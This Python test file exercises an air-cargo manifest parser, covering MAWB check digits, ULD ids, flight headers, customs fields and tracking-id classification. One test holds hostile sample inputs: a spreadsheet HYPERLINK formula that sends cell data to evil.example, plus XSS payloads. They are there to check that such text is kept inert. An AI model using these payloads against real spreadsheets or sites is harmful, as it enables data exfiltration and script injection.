"""Manifest headers and lines: MAWB, ULD, flight, IOSS, HS, country, values, tracking ids."""

import pytest

from dockscan.codes import CodeClassifier, s10_with_check, tracking_id
from gateway.manifests.model import (
    Invalid,
    ManifestError,
    make_header,
    mawb_ok,
    parse_line,
    parse_mawb,
    parse_uld,
)

PLAIN = CodeClassifier()


def line(**fields: str | None) -> dict[str, str | None]:
    """Return a line's raw fields with a valid tracking id unless one is given."""
    return {"tracking_id": "RR123456785CN", **fields}


@pytest.mark.parametrize("number", ["176-12345675", "020-00000000", "157-99999992", "17612345675"])
def test_mawb_check_digit_accepted(number: str) -> None:
    assert mawb_ok(number)
    assert parse_mawb(number).count("-") == 1


@pytest.mark.parametrize("number", ["176-12345676", "176-12345670", "157-99999990"])
def test_mawb_check_digit_rejected(number: str) -> None:
    assert not mawb_ok(number)
    with pytest.raises(Invalid, match="check digit"):
        parse_mawb(number)


@pytest.mark.parametrize("text", ["176-1234567", "17-612345675", "ABC-12345675", ""])
def test_mawb_shape_rejected(text: str) -> None:
    with pytest.raises(Invalid, match="not a MAWB"):
        parse_mawb(text)


def test_uld_ids() -> None:
    assert parse_uld("AKE12345CZ") == "AKE12345CZ"
    assert parse_uld("pmc 1234 lh") == "PMC1234LH"
    assert parse_uld("AKE-12345-7C") == "AKE123457C"
    for bad in ("AK12345CZ", "AKE123CZ", "AKE123456CZ", "AKE123C", "1KE12345CZ"):
        with pytest.raises(Invalid, match="not a ULD"):
            parse_uld(bad)


def test_headers_derive_kind_reference_and_id() -> None:
    h = make_header(mawb="176 12345675")
    assert (h.kind, h.reference, h.id, h.mawb) == ("mawb", "176-12345675", "mawb:176-12345675",
                                                   "176-12345675")  # fmt: skip
    h = make_header(flight="lh 0840", flight_date="2026-11-27")
    assert (h.kind, h.id, h.carrier, h.flight) == ("flight", "flight:LH840/2026-11-27", "LH",
                                                   "LH840")  # fmt: skip
    h = make_header("uld", "LGG-ULD-7", uld="ake12345cz", flight="QY123", flight_date="2026-11-27")
    assert (h.id, h.reference, h.flight) == ("LGG-ULD-7", "AKE12345CZ", "QY123")
    assert make_header(bag="BAG-0001").reference == "BAG-0001"
    with pytest.raises(ManifestError, match="--kind"):
        make_header(mawb="176-12345675", uld="AKE12345CZ")
    with pytest.raises(ManifestError, match="--flight-date"):
        make_header(flight="LH8400")
    with pytest.raises(ManifestError, match=r"--mawb: .*check digit"):
        make_header(mawb="176-12345676")
    with pytest.raises(ManifestError, match="needs --uld"):
        make_header("uld", mawb="176-12345675")
    with pytest.raises(ManifestError, match="--manifest-id"):
        make_header(bag="B1", manifest_id="<script>")
    with pytest.raises(ManifestError, match="--flight-date"):
        make_header(flight="LH8400", flight_date="2026-02-30")


def test_a_full_line_is_normalised() -> None:
    got = parse_line(7, line(
        tracking_id=" rr 123 456 785 cn ", declared_kg="1,250", hawb="H-1", bag="B7",
        declared_value="0012.50", currency="eur", ioss="im 1234567890", country="be",
        hs_code="8471.30.00", description="  laptop  ",
    ), PLAIN)  # fmt: skip
    assert got.line_no == 7
    assert (got.tracking_id, got.tracking_kind, got.tracking_raw) == (
        "RR123456785CN", "upu_s10", "rr 123 456 785 cn")  # fmt: skip
    assert (got.declared_kg, got.declared_value, got.currency) == (1.25, "12.5", "EUR")
    assert (got.ioss, got.country, got.hs_code, got.description) == (
        "IM1234567890", "BE", "84713000", "laptop")  # fmt: skip


@pytest.mark.parametrize(
    ("fields", "field", "reason"),
    [
        ({"tracking_id": ""}, "tracking_id", "missing"),
        ({"tracking_id": "RR123456784CN"}, "tracking_id", "S10 mod-11 check failed"),
        ({"tracking_id": "00340123450000000018"}, "tracking_id", "check digit failed"),
        ({"tracking_id": "(01) 04012345000009"}, "tracking_id", "without an SSCC"),
        ({"tracking_id": "AB"}, "tracking_id", "3-64 printable"),
        ({"tracking_id": "JJD 0001\u00e9"}, "tracking_id", "3-64 printable"),
        ({"ioss": "IM123456789"}, "ioss", "IOSS"),
        ({"ioss": "IN1234567890"}, "ioss", "IOSS"),
        ({"country": "XX"}, "country", "ISO 3166"),
        ({"country": "BEL"}, "country", "ISO 3166"),
        ({"hs_code": "84713"}, "hs_code", "6-10 digits"),
        ({"hs_code": "84713000001"}, "hs_code", "6-10 digits"),
        ({"hs_code": "8471AB"}, "hs_code", "6-10 digits"),
        ({"declared_kg": "0"}, "declared_kg", "above 0"),
        ({"declared_kg": "-1"}, "declared_kg", "above 0"),
        ({"declared_kg": "20000"}, "declared_kg", "at most"),
        ({"declared_kg": "1,234.5"}, "declared_kg", "thousands"),
        ({"declared_kg": "nan"}, "declared_kg", "not a number"),
        ({"declared_kg": "1e999999"}, "declared_kg", "not a number"),
        ({"declared_value": "5"}, "currency", "needs its currency"),
        ({"declared_value": "5", "currency": "EURO"}, "currency", "ISO 4217"),
        ({"declared_value": "1.23456", "currency": "EUR"}, "declared_value", "4 decimals"),
        ({"description": "x" * 1001}, "description", "longer than 1000"),
        ({"hawb": "H 1"}, "hawb", "printable"),
        ({"bag": "B\x00"}, "bag", "NUL"),
        ({"description": "bad \udcff byte"}, "description", "UTF-8"),
    ],
)
def test_bad_fields_name_the_field_and_reason(fields: dict, field: str, reason: str) -> None:
    with pytest.raises(Invalid) as err:
        parse_line(1, line(**fields), PLAIN)
    assert err.value.field == field
    assert reason in err.value.reason


def test_hostile_text_is_kept_as_text() -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    got = parse_line(1, line(description=formula, hawb="+SUM(A1)"), PLAIN)
    assert (got.description, got.hawb) == (formula, "+SUM(A1)")
    html = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    assert parse_line(1, line(description=html), PLAIN).description == html


def test_tracking_ids_match_what_the_scan_classifier_reads() -> None:
    """A manifest's id and a scan of the same label give the same key."""
    s10 = s10_with_check("RR", 12345678, "CN")
    sscc = "340123450000000017"
    cases = [  # (as a manifest writes it, as a scanner sends it)
        (s10.lower(), s10),
        (f"{s10[:2]} {s10[2:5]} {s10[5:8]} {s10[8:11]} {s10[11:]}", f"]C0{s10}"),
        (f"(00) {sscc}", f"]C100{sscc}"),
        (sscc, f"00{sscc}"),
        (f"00{sscc}", f"]C1\x1d00{sscc}"),
        (f"00{sscc}", f"00{sscc}4200123\x1d3103000125"),  # GS ends a variable field: kept
        ("1Z999AA10123456784", "1Z999AA10123456784"),
    ]
    for written, scanned in cases:
        manifest = parse_line(1, line(tracking_id=written), PLAIN)
        scan = PLAIN.classify(scanned)
        assert manifest.tracking_id == scan.value, (written, scanned)
        assert manifest.tracking_kind == scan.kind
        assert tracking_id(scanned, PLAIN).value == scan.value


def test_carrier_patterns_classify_manifest_ids_like_scans() -> None:
    site = CodeClassifier({"dhl": r"JJD\d{10,}"})
    got = parse_line(1, line(tracking_id="JJD0012345678901"), site)
    assert (got.tracking_kind, got.tracking_id) == ("carrier:dhl", "JJD0012345678901")
